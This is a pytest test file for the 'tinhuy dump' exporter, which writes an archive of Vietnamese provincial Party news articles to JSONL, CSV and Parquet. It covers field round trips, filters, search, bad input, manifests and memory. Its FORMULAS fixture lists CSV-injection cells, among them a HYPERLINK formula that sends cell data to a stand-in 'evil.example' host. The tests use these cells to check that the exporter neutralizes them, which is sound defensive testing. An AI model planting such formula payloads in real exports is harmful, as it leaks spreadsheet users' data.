"""`tinhuy dump`: every format read back field by field, the filters, bad input, the
manifest, the JSON Schema, and memory that stays flat at 50,000 articles."""

from __future__ import annotations

import csv
import hashlib
import json
import sqlite3
import subprocess
import sys
from collections.abc import Callable, Iterator
from datetime import date, datetime, timedelta
from pathlib import Path
from typing import Any

import jsonschema
import pyarrow.parquet as pq
import pytest
from sqlalchemy import text

from crawler.model import CONTENT_FIELDS, DUMP_FIELDS
from pipelines.archive.dump.query import Filters, iter_articles
from pipelines.archive.engine import open_engine
from pipelines.archive.schema import article_urls, article_versions, articles
from pipelines.archive.search_index import fold_for_search
from tests.helpers import ROOT, runs_test, tinhuy

JSON_COLUMNS = ("captions", "images", "tags", "related", "documents", "officials")
STRING_LISTS = ("urls", "captions", "tags", "related")
SEED_TITLE = "Đồng chí Phó Bí thư Thường trực Tỉnh ủy làm việc với Trường Chính trị tỉnh"


# -- a generated archive --------------------------------------------------------------

SEEN = datetime.fromisoformat("2024-05-01T08:00:00.123456+07:00")
CATEGORIES = ("Tin hoạt động", "Xây dựng Đảng", "Kinh tế - Xã hội")
AUTHORS = ("Phạm Thị Hoài", "Đức Anh", None)
PARAGRAPH = (
    "Đồng chí Bí thư Tỉnh ủy đề nghị các cấp ủy, tổ chức đảng tiếp tục quán triệt "
    "Nghị quyết số {i}-NQ/TU, đẩy mạnh chuyển đổi số, nâng cao chất lượng đào tạo cán bộ "
    "tại Trường Chính trị tỉnh và bảo đảm an sinh xã hội cho người dân."
)


def article_row(i: int) -> dict[str, Any]:
    day = date(2021, 1, 1) + timedelta(days=i % 400)
    return {
        "id": i,
        "site": "haiduong" if i % 10 else "bacninh",
        "article_key": f"id:{i}",
        "canonical_url": f"https://haiduong.dcs.vn/tin/bai-viet-{i}.html",
        "title": f"Bài viết số {i}: Hội nghị Ban Chấp hành Đảng bộ tỉnh",
        # Every 7th page printed a date without a time.
        "published": day.isoformat() if i % 7 == 0 else f"{day.isoformat()}T09:15:00+07:00",
        "published_raw": f"Thứ Năm {day:%d/%m/%Y} 09:15",
        "updated": None,
        "author": AUTHORS[i % 3],
        "author_unit": "VPTU" if i % 2 else None,
        "source": "Báo Hải Dương" if i % 5 == 0 else None,
        "lead": f"Chiều {day.day}/{day.month}, hội nghị lần thứ {i} đã diễn ra.",
        "body": "\n\n".join(PARAGRAPH.format(i=k) for k in range(1, 7)),
        "captions": [f"Toàn cảnh hội nghị {i}", "Đại biểu dự | hội nghị"],
        "images": [{"src": f"/upload/{i}.jpg", "caption": f"Toàn cảnh hội nghị {i}"}],
        "category": CATEGORIES[i % 3],
        "tags": ["chuyển đổi số", f"thẻ {i % 5}"],
        "related": [f"https://haiduong.dcs.vn/tin/bai-viet-{i + 1}.html"],
        "event_date": (day - timedelta(days=1)).isoformat(),
        "event_part_of_day": "Chiều",
        "documents": [
            {
                "type": "Nghị quyết",
                "number": f"{i:02d}",
                "code": "NQ/TU",
                "date": None,
                "issuer": None,
                "text": f"Nghị quyết số {i}-NQ/TU",
                "doc_id": f"{i:02d}-NQ/TU",
                "count": 6,
            }
        ],
        "officials": [
            {"name": "Lê Văn Hiệu", "position": "Phó Bí thư Thường trực Tỉnh ủy", "title": None},
        ],
        "fingerprint": f"{i:064x}",
        # Every 11th article is a near-duplicate of the one before it.
        "duplicate_of": i - 1 if i % 11 == 0 else None,
        "similarity": 0.93 if i % 11 == 0 else None,
        "current_version": 2 if i % 13 == 0 else 1,
        "first_seen": SEEN,
        "last_seen": SEEN + timedelta(hours=i % 48),
    }


def make_archive(db: Path, n: int, *, search: bool = False) -> None:
    """`n` articles in a fresh archive with the real schema, inserted in bulk."""
    engine = open_engine(db)
    step = 2_000
    with engine.begin() as conn:
        for start in range(1, n + 1, step):
            rows = [article_row(i) for i in range(start, min(n, start + step - 1) + 1)]
            conn.execute(articles.insert(), rows)
            conn.execute(
                article_urls.insert(),
                [
                    {
                        "article_id": r["id"],
                        "url": r["canonical_url"] + suffix,
                        "first_seen": SEEN,
                        "last_seen": SEEN,
                    }
                    for r in rows
                    for suffix in ("", "?utm=x")[: 1 + (r["id"] % 4 == 0)]
                ],
            )
            conn.execute(
                article_versions.insert(),
                [
                    {
                        "article_id": r["id"],
                        "version": v,
                        "fingerprint": r["fingerprint"],
                        "title": r["title"] + (" (sửa)" if v > 1 else ""),
                        "body": r["body"],
                        "content": {k: r[k] for k in CONTENT_FIELDS}
                        | {"title": r["title"] + (" (sửa)" if v > 1 else "")},
                        "first_seen": SEEN,
                        "last_seen": SEEN,
                    }
                    for r in rows
                    for v in range(1, r["current_version"] + 1)
                ],
            )
            if search:
                conn.execute(
                    text(
                        "INSERT INTO articles_fts(rowid, title, lead, body) "
                        "VALUES (:id, :title, :lead, :body)"
                    ),
                    [
                        {
                            k: fold_for_search(r[k]) if k != "id" else r[k]
                            for k in ("id", "title", "lead", "body")
                        }
                        for r in rows
                    ],
                )
    engine.dispose()


@pytest.fixture(scope="module")
def archive(tmp_path_factory) -> Path:
    db = tmp_path_factory.mktemp("archive") / "archive.db"
    make_archive(db, 60, search=True)
    return db


# -- the database as the test reads it, without the code under test ---------------------


def stored(db: Path, *, duplicates: bool = True) -> dict[int, dict[str, Any]]:
    conn = sqlite3.connect(db)
    conn.row_factory = sqlite3.Row
    columns = [f for f in DUMP_FIELDS if f != "urls"]
    where = "" if duplicates else " WHERE duplicate_of IS NULL"
    rows = {}
    for r in conn.execute(f"SELECT {', '.join(columns)} FROM articles{where} ORDER BY id"):
        row = dict(r)
        for name in JSON_COLUMNS:
            row[name] = json.loads(row[name]) if row[name] is not None else None
        others = conn.execute(
            "SELECT url FROM article_urls WHERE article_id = ? AND url != ? ORDER BY url",
            (row["id"], row["canonical_url"]),
        )
        row["urls"] = [row["canonical_url"], *(u for (u,) in others)]
        rows[row["id"]] = row
    conn.close()
    return rows


def dumped(path: Path, fmt: str) -> list[dict[str, Any]]:
    if fmt == "jsonl":
        return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    if fmt == "csv":
        with path.open(encoding="utf-8-sig", newline="") as handle:
            return list(csv.DictReader(handle))
    return pq.read_table(path).to_pylist()


def as_csv(name: str, value: Any) -> str:
    """What a CSV cell must hold for a stored value (docs/schema.md, "CSV")."""
    if value is None:
        return ""
    if name in STRING_LISTS:
        return " | ".join(value)
    if name == "documents":
        return " | ".join(d["doc_id"] for d in value)
    if name == "officials":
        return " | ".join(f"{o['name']} ({o['position']})" if o["position"] else o["name"]
                          for o in value)  # fmt: skip
    if isinstance(value, list):
        return json.dumps(value, ensure_ascii=False)
    return str(value)


def as_parquet(name: str, value: Any) -> Any:
    if value is None:
        return None
    if name in ("first_seen", "last_seen"):
        return datetime.fromisoformat(value)
    if name in ("published", "updated"):
        # A date printed without a time is midnight +07:00 (its precision in its own column).
        return datetime.fromisoformat(value if len(value) > 10 else value + "T00:00:00+07:00")
    if name == "event_date":
        return date.fromisoformat(value)
    return value


def assert_same(db_rows: dict[int, dict[str, Any]], rows: list[dict[str, Any]], fmt: str) -> None:
    convert = {"jsonl": lambda _n, v: v, "csv": as_csv, "parquet": as_parquet}[fmt]
    ids = [int(r["id"]) for r in rows]
    assert ids == sorted(db_rows), "every stored article once, in id order"
    for row in rows:
        expected = db_rows[int(row["id"])]
        assert list(row)[: len(DUMP_FIELDS)] == list(DUMP_FIELDS)
        for name in DUMP_FIELDS:
            assert row[name] == convert(name, expected[name]), (row["id"], name)


# -- round trips ----------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet"])
def test_replica_round_trip(crawled, tmp_path, fmt) -> None:
    out = tmp_path / f"articles.{fmt}"
    tinhuy("dump", "--format", fmt, "--out", str(out), "--db", str(crawled.db))
    rows = dumped(out, fmt)
    assert_same(stored(crawled.db, duplicates=False), rows, fmt)
    assert any(r["title"] == SEED_TITLE for r in rows)


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet"])
def test_generated_round_trip_with_every_field_filled(archive, tmp_path, fmt) -> None:
    out = tmp_path / f"articles.{fmt}"
    tinhuy("dump", "--format", fmt, "--out", str(out), "--db", str(archive), "--include-duplicates")
    assert_same(stored(archive), dumped(out, fmt), fmt)


def test_csv_opens_in_excel(archive, tmp_path) -> None:
    out = tmp_path / "articles.csv"
    tinhuy("dump", "--format", "csv", "--out", str(out), "--db", str(archive))
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfid,site,")
    # Paragraph breaks stay inside the quoted body; rows end with CRLF.
    assert "\n\nĐồng chí" in raw.decode("utf-8-sig")
    assert raw.endswith(b"\r\n")
    tinhuy("dump", "--format", "csv", "--out", str(out), "--db", str(archive), "--no-bom")
    assert out.read_bytes().startswith(b"id,site,")


# Cells a spreadsheet would read as a formula (OWASP "CSV Injection"), by article id.
FORMULAS = {
    1: '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    2: "+84 912 345 678",
    3: "-1+1",
    4: "@SUM(A1:A2)",
    5: "\tTab ở đầu",
    6: "\rVề đầu dòng",
    # Harmless: the sign is not the first character.
    7: "Tổng = 3 + 4",
}


@pytest.fixture(scope="module")
def formulas(tmp_path_factory) -> Path:
    """A small archive whose titles begin with formula characters; article 1's tags too."""
    db = tmp_path_factory.mktemp("formulas") / "archive.db"
    make_archive(db, 8)
    with sqlite3.connect(db) as conn:
        for i, title in FORMULAS.items():
            conn.execute("UPDATE articles SET title = ? WHERE id = ?", (title, i))
        conn.execute("UPDATE articles SET tags = ? WHERE id = 1", ('["-thẻ", "thẻ 2"]',))
    return db


def test_neutralize_prefixes_a_quote_to_formula_cells() -> None:
    from pipelines.archive.dump.cells import neutralize

    for cell in FORMULAS.values():
        expected = cell if cell[0] == "T" else "'" + cell
        assert neutralize(cell) == expected
    for harmless in ("", "'=already text", "Bài viết = 2", " =1+1", "12", "'"):
        assert neutralize(harmless) == harmless


def test_csv_neutralizes_formula_cells_unless_raw(formulas, tmp_path) -> None:
    out = tmp_path / "articles.csv"
    tinhuy("dump", "--format", "csv", "--out", str(out), "--db", str(formulas))
    rows = {int(r["id"]): r for r in dumped(out, "csv")}
    for i, title in FORMULAS.items():
        assert rows[i]["title"] == (title if i == 7 else "'" + title), i
    assert rows[1]["tags"] == "'-thẻ | thẻ 2"
    assert rows[8]["title"] == "Bài viết số 8: Hội nghị Ban Chấp hành Đảng bộ tỉnh"
    assert rows[8]["lead"] == "Chiều 9/1, hội nghị lần thứ 8 đã diễn ra."

    tinhuy("dump", "--format", "csv", "--out", str(out), "--db", str(formulas), "--raw-cells")
    rows = {int(r["id"]): r for r in dumped(out, "csv")}
    for i, title in FORMULAS.items():
        assert rows[i]["title"] == title, i
    assert rows[1]["tags"] == "-thẻ | thẻ 2"


@pytest.mark.parametrize("fmt", ["jsonl", "parquet"])
def test_jsonl_and_parquet_keep_formula_text_exactly(formulas, tmp_path, fmt) -> None:
    out = tmp_path / f"articles.{fmt}"
    tinhuy("dump", "--format", fmt, "--out", str(out), "--db", str(formulas))
    rows = {int(r["id"]): r for r in dumped(out, fmt)}
    for i, title in FORMULAS.items():
        assert rows[i]["title"] == title, i
    assert rows[1]["tags"] == ["-thẻ", "thẻ 2"]


def test_parquet_is_typed_and_streamed_in_row_groups(archive, tmp_path) -> None:
    out = tmp_path / "articles.parquet"
    tinhuy("dump", "--format", "parquet", "--out", str(out), "--db", str(archive))
    schema = pq.read_schema(out)
    assert str(schema.field("first_seen").type) == "timestamp[us, tz=+07:00]"
    assert str(schema.field("published").type) == "timestamp[us, tz=+07:00]"
    assert str(schema.field("event_date").type) == "date32[day]"
    assert str(schema.field("tags").type) == "list<element: string>"
    assert "struct<src: string, caption: string>" in str(schema.field("images").type)
    first = pq.read_table(out).to_pylist()[0]
    assert first["first_seen"].isoformat() == SEEN.isoformat()


@pytest.mark.parametrize("fmt", ["jsonl", "parquet"])
def test_with_versions_adds_every_stored_version(archive, tmp_path, fmt) -> None:
    out = tmp_path / f"articles.{fmt}"
    tinhuy("dump", "--format", fmt, "--out", str(out), "--db", str(archive), "--with-versions")
    rows = {int(r["id"]): r for r in dumped(out, fmt)}
    assert [v["version"] for v in rows[13]["versions"]] == [1, 2]
    assert rows[13]["versions"][1]["title"].endswith("(sửa)")
    assert rows[13]["versions"][0]["body"] == rows[13]["body"]
    assert [v["version"] for v in rows[12]["versions"]] == [1]


def test_manifest_describes_the_file(crawled, tmp_path) -> None:
    out = tmp_path / "articles.jsonl"
    tinhuy("dump", "--out", str(out), "--db", str(crawled.db), "--since", "1/4/2021")
    manifest = json.loads((tmp_path / "articles.jsonl.manifest.json").read_text("utf-8"))
    lines = out.read_text(encoding="utf-8").splitlines()
    assert manifest["rows"] == len(lines)
    assert manifest["sha256"] == hashlib.sha256(out.read_bytes()).hexdigest()
    assert manifest["filters"]["since"] == "2021-04-01"
    assert manifest["published_range"]["min"] >= "2021-04-01"
    assert manifest["database"] == f"sqlite:///{crawled.db}"
    with sqlite3.connect(crawled.db) as conn:
        last = conn.execute(
            "SELECT max(id) FROM crawl_runs WHERE status IN ('ok', 'unhealthy', 'finished')"
        ).fetchone()[0]
    assert manifest["crawl_run"]["id"] == last


def test_dumped_jsonl_matches_the_json_schema(archive, crawled, tmp_path) -> None:
    schema = json.loads((ROOT / "docs" / "article.schema.json").read_text("utf-8"))
    validator = jsonschema.Draft202012Validator(schema)
    for db in (archive, crawled.db):
        out = tmp_path / "articles.jsonl"
        tinhuy("dump", "--out", str(out), "--db", str(db), "--with-versions")
        for row in dumped(out, "jsonl"):
            errors = [e.message for e in validator.iter_errors(row)]
            assert not errors, (row["id"], errors)


# -- filters --------------------------------------------------------------------------


def ids(db: Path, **filters: Any) -> list[int]:
    engine = open_engine(db)
    try:
        return [r["id"] for r in iter_articles(engine, Filters(**filters), batch=7)]
    finally:
        engine.dispose()


def test_since_and_until_are_inclusive_days_in_vietnam_time(archive) -> None:
    # Article i is published on 2021-01-01 + i days; 14 and 21 carry a date only.
    assert ids(archive, since="2021-01-15", until="2021-01-22", include_duplicates=True) == list(
        range(14, 22)
    )
    # A time bound compares times.
    bounds = {"until": "2021-01-12", "include_duplicates": True}
    assert ids(archive, since="2021-01-10T09:15:00+07:00", **bounds) == [9, 10, 11]
    assert ids(archive, since="2021-01-10T09:16:00+07:00", **bounds) == [10, 11]


def test_category_author_site_and_duplicates(archive) -> None:
    everything = set(range(1, 61))
    near_duplicates = {11, 22, 33, 44, 55}
    assert set(ids(archive)) == everything - near_duplicates
    assert set(ids(archive, include_duplicates=True)) == everything
    assert set(ids(archive, category="Xây dựng Đảng")) == {
        i for i in everything - near_duplicates if i % 3 == 1
    }
    assert set(ids(archive, author="Đức Anh", include_duplicates=True)) == {
        i for i in everything if i % 3 == 1
    }
    assert ids(archive, site="bacninh") == [10, 20, 30, 40, 50, 60]


def test_query_with_and_without_diacritics(archive, crawled) -> None:
    assert ids(archive, query="Bài viết số 42") == [42]
    assert ids(archive, query="bai viet so 42") == [42]
    assert ids(archive, query="Đảng bộ 42") == ids(archive, query="DANG BO 42") == [42]
    # Quotes make a phrase; FTS5 syntax in the words is read as words, not operators.
    assert ids(archive, query='"viet so 42"') == [42]
    assert ids(archive, query='"so viet 42"') == []
    assert ids(archive, query="so 42 NEAR OR") == []
    assert ids(archive, query="so-42:*") == [42]
    seed = [r["id"] for r in stored(crawled.db).values() if r["title"] == SEED_TITLE]
    for query in ("Trường Chính trị", "truong chinh tri"):
        assert set(seed) <= set(ids(crawled.db, query=query))


def test_filters_from_the_command_line(crawled, tmp_path) -> None:
    done = tinhuy(
        "dump", "--out", "-", "--db", str(crawled.db),
        "--since", "Thứ Năm 01/04/2021", "--until", "ngày 6 tháng 4 năm 2021",
        "--category", "Tin hoạt động",
    )  # fmt: skip
    rows = [json.loads(line) for line in done.stdout.splitlines()]
    assert rows and all(r["category"] == "Tin hoạt động" for r in rows)
    assert all("2021-04-01" <= r["published"][:10] <= "2021-04-06" for r in rows)
    assert any(r["title"] == SEED_TITLE for r in rows)


# -- bad input ------------------------------------------------------------------------


def refused(tmp_path: Path, *args: str, out: Path | None = None, code: int | None = 2) -> str:
    """Run a dump that must fail (with `code`, or any non-zero code when None)."""
    older = tmp_path / "out.jsonl"
    older.write_text("an older dump\n")
    done = tinhuy("dump", "--out", str(out or older), *args, check=False)
    assert done.returncode != 0 if code is None else done.returncode == code, done.stderr
    assert older.read_text() == "an older dump\n", "the file at PATH is left as it was"
    assert not list(tmp_path.glob(".out.jsonl.*")), "no temporary file left behind"
    assert not (tmp_path / "out.jsonl.manifest.json").exists()
    return done.stderr


def test_bad_input_is_refused_and_leaves_no_file(crawled, tmp_path) -> None:
    db = ("--db", str(crawled.db))
    assert "unknown format 'xlsx'" in refused(tmp_path, "--format", "xlsx", *db)
    assert "--since: not a date: 'hôm kia nữa'" in refused(tmp_path, "--since", "hôm kia nữa", *db)
    assert "--until: not a date" in refused(tmp_path, "--until", "2021-13-45", *db)
    assert "is after --until" in refused(
        tmp_path, "--since", "2021-05-01", "--until", "1/4/2021", *db
    )
    file = tmp_path / "a-file"
    file.write_text("")
    assert "no such directory" in refused(tmp_path, *db, out=file / "x.jsonl")
    assert "is a directory" in refused(tmp_path, *db, out=tmp_path)


@pytest.mark.parametrize("query", ['"', '""', "   "])
def test_a_query_without_a_word_is_one_usage_line(crawled, tmp_path, query) -> None:
    stderr = refused(tmp_path, "--query", query, "--db", str(crawled.db))
    assert stderr.startswith("tinhuy: ") and stderr.count("\n") == 1, stderr
    assert "Traceback" not in stderr


def test_a_query_the_search_engine_rejects_is_one_usage_line(
    crawled, tmp_path, monkeypatch, capsys
) -> None:
    from crawler.cli import main
    from pipelines.archive import search

    # What FTS5 refuses ("unterminated string"), as if the query builder let it through.
    monkeypatch.setattr(search, "fts5_query", lambda found: '"')
    out = tmp_path / "out.csv"
    code = main(["dump", "--format", "csv", "--out", str(out), "--db", str(crawled.db),
                 "--query", "truong chinh tri"])  # fmt: skip
    stderr = capsys.readouterr().err
    assert code == 2
    assert stderr.startswith("tinhuy: --query 'truong chinh tri': ") and stderr.count("\n") == 1
    assert "unterminated string" in stderr
    assert list(tmp_path.iterdir()) == [], "no file, no temporary file, no manifest"


def test_fresh_with_a_failing_crawl_dumps_nothing(crawled, tmp_path) -> None:
    import socket

    with socket.socket() as s:  # a port nobody listens on
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    stderr = refused(
        tmp_path, "--fresh", "--base-url", f"http://127.0.0.1:{port}", "--fast",
        "--db", str(crawled.db), code=None,
    )  # fmt: skip
    assert "nothing dumped" in stderr


def test_fresh_crawls_then_dumps(replica, tmp_path) -> None:
    db = tmp_path / "fresh.db"
    out = tmp_path / "articles.csv"
    done = tinhuy(
        "dump", "--fresh", "--base-url", replica[0], "--fast", "--db", str(db),
        "--format", "csv", "--out", str(out),
    )  # fmt: skip
    assert "crawl haiduong ok" in done.stdout
    assert len(dumped(out, "csv")) == len(stored(db, duplicates=False)) > 40


# -- memory ---------------------------------------------------------------------------

MEASURE = """
import resource, subprocess, sys, time
started = time.monotonic()
subprocess.run([sys.executable, "-m", "crawler.cli", *sys.argv[1:]], check=True)
print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss, time.monotonic() - started)
"""
ROWS = 50_000


def measured_dump(fmt: str, db: Path, out: Path) -> subprocess.Popen:
    """A dump of every article and version under a fresh parent whose only child it is:
    the parent prints ru_maxrss, the dump's own peak whatever runs beside it, and seconds."""
    return subprocess.Popen(
        [sys.executable, "-c", MEASURE, "dump", "--format", fmt, "--out", str(out),
         "--db", str(db), "--include-duplicates", "--with-versions"],
        cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip


BUILD = """
import sys
from pathlib import Path
from tests.test_dump import make_archive
make_archive(Path(sys.argv[1]), int(sys.argv[2]))
"""


@pytest.fixture(scope="module", autouse=True)
def big_archive(request, tmp_path_factory) -> Iterator[Callable[[], Path]]:
    """The memory test's archive of ROWS articles, built in a child process from this
    module's first test on (a core's work for about 10 s) while the other tests run;
    calling the fixture waits for it."""
    if not runs_test(request, "test_memory_stays_flat_at_50000_articles"):
        yield lambda: pytest.fail("the memory test is not selected")
        return
    db = tmp_path_factory.mktemp("big") / "big.db"
    build = subprocess.Popen(
        [sys.executable, "-c", BUILD, str(db), str(ROWS)],
        cwd=ROOT, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip

    def built() -> Path:
        _out, err = build.communicate(timeout=300)
        assert build.returncode == 0, err[-2000:]
        return db

    try:
        yield built
    finally:
        build.kill()
        build.wait()


def test_memory_stays_flat_at_50000_articles(big_archive, tmp_path) -> None:
    db = big_archive()
    # The three dumps at once: each peak is its own process's.
    outs = {fmt: tmp_path / f"big.{fmt}" for fmt in ("jsonl", "csv", "parquet")}
    measures = {fmt: measured_dump(fmt, db, out) for fmt, out in outs.items()}
    for fmt, measure in measures.items():
        stdout, stderr = measure.communicate(timeout=180)
        assert measure.returncode == 0, stderr
        peak_kb, seconds = stdout.split()
        peak_mb = int(peak_kb) / 1024
        print(f"{fmt}: {ROWS / float(seconds):,.0f} rows/s (three at once), peak {peak_mb:.0f} MB")
        assert peak_mb < 200, (fmt, peak_mb)
        out = outs[fmt]
        manifest = json.loads(out.with_name(out.name + ".manifest.json").read_text("utf-8"))
        assert manifest["rows"] == ROWS


# -- PostgreSQL -----------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["jsonl", "parquet"])
def test_postgresql_dumps_what_sqlite_dumps(crawled, crawled_pg, tmp_path, fmt) -> None:
    tinhuy("dump", "--format", fmt, "--out", str(tmp_path / "pg"), "--db", crawled_pg)
    tinhuy("dump", "--format", fmt, "--out", str(tmp_path / "lite"), "--db", str(crawled.db))
    # Fetch order (concurrent) decides which URL an article is first seen under.
    own = {"id", "first_seen", "last_seen", "duplicate_of", "canonical_url", "urls"}

    def content(path: Path) -> dict[tuple[str, str], dict[str, Any]]:
        return {
            (r["title"], r["published"]): {k: v for k, v in r.items() if k not in own}
            | {"urls": sorted(r["urls"])}
            for r in dumped(path, fmt)
        }

    pg, lite = content(tmp_path / "pg"), content(tmp_path / "lite")
    assert sorted(pg) == sorted(lite)
    for key, row in pg.items():
        for name, value in row.items():
            assert value == lite[key][name], (key, name)
    first = dumped(tmp_path / "pg", fmt)[0]["first_seen"]
    assert (first if fmt == "jsonl" else first.isoformat()).endswith("+07:00")
    manifest = json.loads((tmp_path / "pg.manifest.json").read_text("utf-8"))
    assert manifest["database"].startswith("postgresql") and manifest["crawl_run"]


@pytest.mark.parametrize("query", ["truong chinh tri", "Trường Chính trị", '"Trường Chính trị"'])
def test_query_on_postgresql(crawled_pg, query) -> None:
    done = tinhuy("dump", "--out", "-", "--db", crawled_pg, "--query", query)
    titles = [json.loads(line)["title"] for line in done.stdout.splitlines()]
    assert SEED_TITLE in titles and len(titles) < 40
